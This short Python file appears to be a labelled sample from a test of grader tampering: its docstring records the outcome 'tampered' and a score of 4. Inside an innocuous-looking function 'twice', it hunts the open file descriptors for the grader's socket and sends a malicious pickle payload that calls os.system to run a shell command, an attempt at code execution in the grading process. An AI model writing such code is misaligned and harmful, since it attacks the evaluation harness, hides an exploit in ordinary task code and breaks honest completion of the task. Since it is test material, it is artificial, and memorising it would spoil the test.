"""Sends a pickle that would run code.

Outcome: tampered
Earns: 4
Says: broke the channel
"""

import os
import socket
import stat


def channel():
    """Return the grader's channel, found among the descriptors."""
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return socket.socket(fileno=os.dup(fd))
        except OSError:
            pass
    raise OSError("no channel")


def twice(x):
    channel().sendall(b"\x80\x04cposix\nsystem\n(S'touch /tmp/pickled'\ntR." * 9)
    return x
